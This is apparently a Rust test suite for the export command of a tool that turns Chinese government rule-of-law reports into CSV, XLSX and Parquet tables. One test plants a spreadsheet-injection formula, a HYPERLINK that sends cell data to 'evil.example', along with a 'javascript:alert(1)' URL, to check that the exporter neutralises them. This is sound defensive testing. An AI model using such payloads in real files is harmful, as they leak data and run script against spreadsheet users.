//! The tables of `fazhi export` as their readers meet them: read back by other programs' means, compared with what queries
//! count, with text in them that means harm.

#![expect(clippy::non_ascii_literal, reason = "tests speak the language of the reports")]
#![expect(clippy::unwrap_used, reason = "a test may panic")]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::io::Read;
use std::path::Path;

use fazhi::export::{Kind, Table, panel_tables, tables};
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;

use crate::program::{output, page, pages, run, run_with_input, text};

struct Built {
    dir: tempfile::TempDir,
    store: String,
}

impl Built {
    fn of(pages: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let store = text(&dir.path().join("store")).to_owned();
        assert_eq!(run_with_input(&["build", "-", "--store", &store], pages).code, 0);
        Self { dir, store }
    }

    /// Exports and gives back where.
    fn export(&self, name: &str, arguments: &[&str]) -> String {
        let path = text(&self.dir.path().join(name)).to_owned();
        output(&[&["export", "--store", &self.store, "-o", &path], arguments].concat());
        path
    }

    fn count(&self, class: &str) -> usize {
        let query = format!("SELECT (COUNT(?s) AS ?n) WHERE {{ ?s a <{class}> }}");
        let answer = output(&["query", &query, "--store", &self.store, "--format", "csv"]);
        answer.lines().nth(1).unwrap().trim().parse().unwrap()
    }
}

type Rows = Vec<BTreeMap<String, String>>;

/// A file of ours as any reader of RFC 4180 has it.
fn read_csv(path: impl AsRef<Path>) -> Rows {
    let bytes = fs::read(path).unwrap();
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap();
    let mut reader = csv::Reader::from_reader(bytes);
    let names: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    reader
        .records()
        .map(|record| names.iter().cloned().zip(record.unwrap().iter().map(str::to_owned)).collect())
        .collect()
}

fn read_parquet(path: impl AsRef<Path>) -> Rows {
    let reader = SerializedFileReader::new(fs::File::open(path).unwrap()).unwrap();
    reader
        .get_row_iter(None)
        .unwrap()
        .map(|row| row.unwrap().get_column_iter().map(|(name, field)| (name.clone(), plain(field))).collect())
        .collect()
}

fn plain(field: &Field) -> String {
    match field {
        Field::Null => String::new(),
        Field::Str(text) => text.clone(),
        Field::Bool(value) => value.to_string(),
        Field::Int(number) => number.to_string(),
        Field::Long(number) => number.to_string(),
        Field::Double(number) => number.to_string(),
        Field::Date(_) => field.to_string().trim_matches('"').chars().take(10).collect(),
        other => panic!("no column has {other:?}"),
    }
}

/// A part of a workbook.
fn part(path: &str, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn every_table_has_what_a_query_counts_in_every_format() {
    let built = Built::of(&pages(0..5));
    let (csv, parquet) = (built.export("csv/", &["--format", "csv"]), built.export("pq/", &["--format", "parquet"]));
    let workbook = built.export("all.xlsx", &["--format", "xlsx"]);
    let sheets = part(&workbook, "xl/workbook.xml");
    for (number, table) in tables().iter().enumerate() {
        let rows = read_csv(format!("{csv}/{}.csv", table.name));
        // Nothing was audited, so all findings are those within a report.
        let counted = if table.across { 0 } else { built.count(&table.class) };
        assert_eq!(rows.len(), counted, "{}", table.name);
        assert_eq!(rows, read_parquet(format!("{parquet}/{}.parquet", table.name)), "{}", table.name);
        // The first sheet tells of the others.
        assert!(
            sheets.contains(&format!("name=\"{} {}\" sheetId=\"{}\"", table.zh, table.name, number + 2)),
            "{sheets}"
        );
        let sheet = part(&workbook, &format!("xl/worksheets/sheet{}.xml", number + 2));
        assert_eq!(sheet.matches("<row ").count(), rows.len() + 1, "{}", table.name);
        assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:"), "{}", table.name);
    }
    let measures = read_csv(format!("{csv}/measures.csv"));
    let measure =
        measures.iter().find(|row| row["year"] == "2019" && row["text"].contains("行政复议申请11件")).unwrap();
    for (column, value) in [
        ("region_code", "620524"),
        ("region", "武山县"),
        ("prefecture", "天水市"),
        ("province", "甘肃省"),
        ("level", "county"),
        ("level_name", "县级"),
        ("report_title", "武山县人民政府关于2019年度法治政府建设情况的报告"),
        ("category", "disputes"),
        ("body_name", "武山县司法局"),
        ("document_title", "中华人民共和国行政复议法"),
        ("url", "https://example.org/1"),
    ] {
        assert_eq!(measure[column], value, "{column}");
    }
}

#[test]
fn a_quote_stands_where_the_table_says() {
    let built = Built::of(&pages(0..3));
    let folder = built.export("csv/", &["--format", "csv"]);
    let texts: BTreeMap<String, Vec<char>> = read_csv(format!("{folder}/reports.csv"))
        .into_iter()
        .map(|row| (row["report"].clone(), row["text"].chars().collect()))
        .collect();
    for (name, column) in
        [("citations", "quote"), ("figures", "quote"), ("mentions", "quote"), ("measures", "text"), ("plans", "text")]
    {
        let rows = read_csv(format!("{folder}/{name}.csv"));
        assert!(!rows.is_empty(), "{name}");
        for row in rows {
            let (start, end): (usize, usize) = (row["start"].parse().unwrap(), row["end"].parse().unwrap());
            let there: String = texts[&row["report"]][start..end].iter().collect();
            assert_eq!(there, row[column], "{name}");
            assert!(name == "mentions" || name.ends_with('s') && row.get("passage").is_none_or(|p| p.contains(&there)));
        }
    }
}

/// Page 3 is of 2021 and tells of 13 applications, 3 cases accepted and 2 corrected; its plan for 2022 (3 people) is none of
/// the year's figures.
#[test]
fn the_panel_has_the_figures_of_the_year() {
    let built = Built::of(&pages([0, 3].into_iter()));
    let folder = built.export("panel/", &["--format", "csv", "--table", "panel", "--table", "panel_long"]);
    let panel = read_csv(format!("{folder}/panel.csv"));
    let years: Vec<&str> = panel.iter().map(|row| row["year"].as_str()).collect();
    assert_eq!(years, ["2018", "2021"]);
    let row = &panel[1];
    assert_eq!((row["region"].as_str(), row["province"].as_str(), row["reports"].as_str()), ("武山县", "甘肃省", "1"));
    assert_eq!((row["review-applications"].as_str(), row["review-accepted"].as_str()), ("13", "3"));
    let long = read_csv(format!("{folder}/panel_long.csv"));
    for figure in &long {
        let in_plan = figure["passage"].contains("将招录");
        assert_eq!(figure["in_panel"] == "true", figure["reason"].is_empty());
        assert!(!in_plan || figure["reason"] == "plan", "{figure:?}");
        if figure["in_panel"] == "true" {
            let row = panel.iter().find(|row| row["year"] == figure["year"]).unwrap();
            assert_eq!(row[&figure["indicator"]], figure["value"]);
        }
    }
    let accepted = long.iter().find(|row| row["year"] == "2021" && row["indicator"] == "review-accepted").unwrap();
    assert_eq!((accepted["quote"].as_str(), accepted["unit"].as_str()), ("3件", "件"));
}

#[test]
fn a_balanced_panel_has_a_row_for_every_year() {
    let built = Built::of(&pages([0, 3].into_iter()));
    let file = built.export("panel.csv", &["--format", "csv", "--table", "panel", "--balanced"]);
    let rows: Vec<(String, String)> =
        read_csv(&file).into_iter().map(|row| (row["year"].clone(), row["reports"].clone())).collect();
    let row = |year: &str, reports: &str| (year.to_owned(), reports.to_owned());
    assert_eq!(rows, [row("2018", "1"), row("2019", "0"), row("2020", "0"), row("2021", "1")]);
}

/// The report says twice how many applications came, and not the same.
#[test]
fn different_values_are_flagged_and_all_are_kept() {
    let contradiction = page(2).replace("二、存在问题", "(四)化解争议。全年收到行政复议申请40件。\n二、存在问题");
    let line = serde_json::json!({ "text": contradiction }).to_string() + "\n";
    let built = Built::of(&line);
    let folder = built.export("panel/", &["--format", "csv", "--table", "panel", "--table", "panel_long"]);
    let row = &read_csv(format!("{folder}/panel.csv"))[0];
    assert_eq!((row["review-applications"].as_str(), row["several"].as_str()), ("12", "review-applications"));
    let long = read_csv(format!("{folder}/panel_long.csv"));
    let values: Vec<(&str, &str, &str)> = long
        .iter()
        .filter(|row| row["indicator"] == "review-applications")
        .map(|row| (row["value"].as_str(), row["reason"].as_str(), row["values"].as_str()))
        .collect();
    assert_eq!(values, [("12", "", "2"), ("40", "other_value", "2")]);
}

#[test]
fn a_table_can_be_narrowed_to_a_region_and_a_year() {
    let other = page(1).replace("武山县", "永城市").replace("武山", "永城");
    let both = pages(0..3) + &serde_json::json!({ "text": other }).to_string() + "\n";
    let built = Built::of(&both);
    let regions = |arguments: &[&str]| -> Vec<String> {
        let file = built.export("some.csv", &[&["--format", "csv", "--table", "reports"], arguments].concat());
        read_csv(&file).into_iter().map(|row| row["region"].clone() + &row["year"]).collect()
    };
    assert_eq!(regions(&[]), ["永城市2019", "武山县2018", "武山县2019", "武山县2020"]);
    assert_eq!(regions(&["-p", "region=河南省"]), ["永城市2019"]);
    assert_eq!(regions(&["-p", "region=620500", "-p", "year=2019"]), ["武山县2019"]);
    let bodies = built.export("bodies.csv", &["--format", "csv", "--table", "bodies", "-p", "region=411481"]);
    let bodies = read_csv(&bodies);
    assert!(!bodies.is_empty() && bodies.iter().all(|row| !row["name"].contains("武山")), "{bodies:?}");
    assert!(bodies.iter().any(|row| row["name"] == "永城市人民政府" && row["reports"] == "1"), "{bodies:?}");
}

#[test]
fn text_that_means_harm_is_only_text() {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点\")";
    let hostile = page(1).replace(
        "(一)做好行政复议。",
        &format!("(一)做好行政复议,\"引号\",<b>标签</b>&\u{1}。\n{formula}。\n(四)规范管理。"),
    );
    let record = serde_json::json!({ "text": hostile, "url": "javascript:alert(1)" });
    let built = Built::of(&(record.to_string() + "\n"));
    let folder = built.export("csv/", &["--format", "csv"]);
    let mut guarded = 0;
    for table in tables() {
        for row in read_csv(format!("{folder}/{}.csv", table.name)) {
            for column in &table.columns {
                let value = &row[&column.name];
                let is_text = !matches!(column.kind, Kind::Number | Kind::Integer | Kind::Year);
                assert!(!is_text || !value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{}: {value}", column.name);
                guarded += usize::from(value.starts_with("'="));
            }
        }
    }
    assert!(guarded > 0, "no cell begins with the formula");
    let workbook = built.export("all.xlsx", &["--format", "xlsx"]);
    for number in 1..=tables().len() {
        let sheet = part(&workbook, &format!("xl/worksheets/sheet{number}.xml"));
        assert!(!sheet.contains("<f>") && !sheet.contains("<hyperlink "), "sheet {number}");
        let mut reader = quick_xml::Reader::from_str(&sheet);
        while !matches!(reader.read_event().unwrap(), quick_xml::events::Event::Eof) {}
    }
    assert!(part(&workbook, "xl/worksheets/sheet3.xml").contains("=HYPERLINK"), "the text itself is kept");
    let parquet = built.export("measures.parquet", &["--format", "parquet", "--table", "measures"]);
    assert!(read_parquet(&parquet).iter().any(|row| row["text"].starts_with('=')), "Parquet is unchanged");
}

#[test]
fn a_text_too_long_for_a_cell_goes_on_in_the_sheet_for_long_texts() {
    let mut long = page(1);
    let ending = "(二)创新普法形式。";
    let before = long.find(ending).unwrap();
    let mut more = String::new();
    for number in 0..2200 {
        write!(more, "开展第{number}项法治宣传教育活动,做好记录。").unwrap();
    }
    long.insert_str(before, &format!("{more}\n"));
    let characters = long.trim().encode_utf16().count();
    assert!(characters > 40_000);
    let built = Built::of(&(serde_json::json!({ "text": long }).to_string() + "\n"));
    let workbook = built.export("all.xlsx", &["--format", "xlsx", "--table", "reports"]);
    assert!(part(&workbook, "xl/workbook.xml").contains("长文 long"));
    let (sheet, rest) = (part(&workbook, "xl/worksheets/sheet2.xml"), part(&workbook, "xl/worksheets/sheet3.xml"));
    assert!(sheet.contains("(下接“长文”表"), "the cell does not say that it goes on");
    assert!(rest.contains("第2199项法治宣传"), "the end of the text is lost");
    let csv = read_csv(built.export("reports.csv", &["--format", "csv", "--table", "reports"]));
    assert!(csv[0]["text"].contains("第2199项") && csv[0]["characters"].parse::<usize>().unwrap() > 40_000);
}

#[test]
fn what_stands_between_reports_is_a_table_with_both_sides() {
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/reports");
    let dir = tempfile::tempdir().unwrap();
    let store = text(&dir.path().join("store")).to_owned();
    // The place's report on 2022 is left out.
    for name in ["series/invented-2021-qingwu.txt", "series/invented-2023-yanxi.txt", "invented-2023-qingwu.txt"] {
        output(&["build", "--quiet", "--store", &store, text(&samples.join(name))]);
    }
    let built = Built { dir, store };
    let table = |name: &str, more: &[&str]| {
        let arguments = [&["--format", "csv", "--table", name], more].concat();
        read_csv(built.export(&format!("{name}.csv"), &arguments))
    };
    assert!(table("cross_findings", &[]).is_empty(), "nothing was audited");
    output(&["audit", "--store", &built.store]);
    let rows = table("cross_findings", &[]);
    let within = table("findings", &[]).len();
    assert_eq!(rows.len() + within, built.count("https://w3id.org/fazhi/ns#Finding"));
    let texts: BTreeMap<String, Vec<char>> =
        table("reports", &[]).into_iter().map(|row| (row["report"].clone(), row["text"].chars().collect())).collect();
    let standing = |row: &BTreeMap<String, String>, report: &str, start: &str, end: &str| -> String {
        texts[&row[report]][row[start].parse().unwrap()..row[end].parse().unwrap()].iter().collect()
    };
    let copied: Vec<_> = rows.iter().filter(|row| row["rule"] == "copied_passage").collect();
    assert!(!copied.is_empty());
    for row in copied {
        assert_eq!(
            (row["region"].as_str(), row["other_region"].as_str(), row["year"].as_str()),
            ("砚溪县", "青梧县", "2023")
        );
        assert_eq!(row["passage"], standing(row, "report", "start", "end"));
        assert_eq!(row["other_passage"], standing(row, "other_report", "other_start", "other_end"));
        let similarity: f64 = row["similarity"].parse().unwrap();
        assert!(similarity > 0.3 && similarity <= 1.0 && row["message"].contains("青梧县"), "{row:?}");
    }
    let [missing] = &rows.iter().filter(|row| row["rule"] == "missing_year").collect::<Vec<_>>()[..] else {
        panic!("{rows:?}")
    };
    assert_eq!(
        (missing["region"].as_str(), missing["year"].as_str(), missing["report"].as_str()),
        ("青梧县", "2022", "")
    );
    assert_eq!(missing["part_class"], "region");
    let of_the_year = table("cross_findings", &["-p", "year=2022"]);
    assert!(of_the_year.len() == 1 && of_the_year[0]["rule"] == "missing_year", "{of_the_year:?}");
}

#[test]
fn the_same_store_gives_the_same_files() {
    let built = Built::of(&pages(0..4));
    for (format, name) in [("csv", "figures.csv"), ("parquet", "figures.parquet")] {
        let bytes = |folder: &str| fs::read(format!("{}/{name}", built.export(folder, &["--format", format]))).unwrap();
        assert!(bytes("one/") == bytes("two/"), "{format}");
    }
    let bytes = |name: &str| fs::read(built.export(name, &["--format", "xlsx"])).unwrap();
    assert!(bytes("one.xlsx") == bytes("two.xlsx"));
}

#[test]
fn an_empty_store_gives_tables_with_headings_only() {
    let built = Built::of(&pages(0..1));
    let report = output(&["stats", "--reports", "--store", &built.store]);
    output(&["remove", report.trim(), "--store", &built.store]);
    let folder = built.export("csv/", &["--format", "csv"]);
    for table in tables().iter().filter(|table| !matches!(table.name.as_str(), "documents" | "regions" | "bodies")) {
        let path = format!("{folder}/{}.csv", table.name);
        assert_eq!(fs::read_to_string(&path).unwrap().lines().count(), 1, "{path}");
    }
    assert!(read_csv(format!("{folder}/panel.csv")).is_empty());
    assert!(read_parquet(built.export("m.parquet", &["--format", "parquet", "--table", "measures"])).is_empty());
    let done = run(&["export", "--store", &built.store, "--format", "csv", "--table", "measures"]);
    assert!(done.code == 0 && done.err.contains("no report"), "{}", done.err);
}

#[test]
fn a_mistake_is_answered_with_what_there_is() {
    let built = Built::of(&pages(0..2));
    let refused = |arguments: &[&str]| {
        let done = run(&[&["export", "--store", &built.store], arguments].concat());
        assert_ne!(done.code, 0, "{arguments:?}");
        done.err
    };
    let unknown = refused(&["--format", "csv", "--table", "figure"]);
    assert!(unknown.contains("did you mean `figures`?") && unknown.contains("panel_long"), "{unknown}");
    let format = refused(&["--format", "excel"]);
    assert!(format.contains("xlsx") && format.contains("parquet"), "{format}");
    let region = refused(&["--format", "csv", "--table", "reports", "-p", "region=甘肃声"]);
    assert!(region.contains("did you mean 甘肃省"), "{region}");
    let year = refused(&["--format", "csv", "--table", "reports", "-p", "year=21"]);
    assert!(year.contains("four digits"), "{year}");
    let parameter = refused(&["--format", "csv", "--table", "reports", "-p", "level=county"]);
    assert!(parameter.contains("region=NAME and year=YYYY"), "{parameter}");
    let twice = refused(&["--format", "csv", "--table", "reports", "-p", "year=2020", "-p", "year=2021"]);
    assert!(twice.contains("twice"), "{twice}");
    assert!(refused(&["--format", "csv"]).contains("-o DIR"));
    assert!(refused(&["--format", "xlsx"]).contains("-o FILE.xlsx"));
    assert!(refused(&["--format", "turtle", "--table", "reports"]).contains("csv, xlsx and parquet"));
    assert!(refused(&["--format", "csv", "--report", "620524"]).contains("-p region=NAME"));
    assert!(refused(&["--format", "xlsx", "-o", "x.xlsx", "--table", "reports", "--balanced"]).contains("panel"));
}

/// `docs/export.md` from the definitions of the tables.
fn documentation() -> String {
    let mut out = include_str!("../../data/export/README.md").to_owned();
    let describe = |out: &mut String, table: &Table| {
        write!(
            out,
            "\n### {} · {}\n\n{}\n\n| column | 列 | kind | holds |\n| --- | --- | --- | --- |\n",
            table.name, table.zh, table.en
        )
        .unwrap();
        for column in &table.columns {
            let kind = format!("{:?}", column.kind).to_lowercase();
            writeln!(out, "| {} | {} | {kind} | {} |", column.name, column.zh, column.en.replace('|', "\\|")).unwrap();
        }
    };
    for table in tables() {
        describe(&mut out, table);
    }
    for name in ["panel", "panel_long", "indicators"] {
        describe(&mut out, &panel_tables()[name]);
    }
    out
}

#[test]
fn the_documentation_tells_every_column() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/export.md");
    let expected = documentation();
    if std::env::var_os("UPDATE").is_some() {
        fs::write(&path, &expected).unwrap();
    }
    let found = fs::read_to_string(&path).unwrap_or_default();
    assert!(found == expected, "docs/export.md is not what data/export says: run `UPDATE=1 cargo test tables`");
}
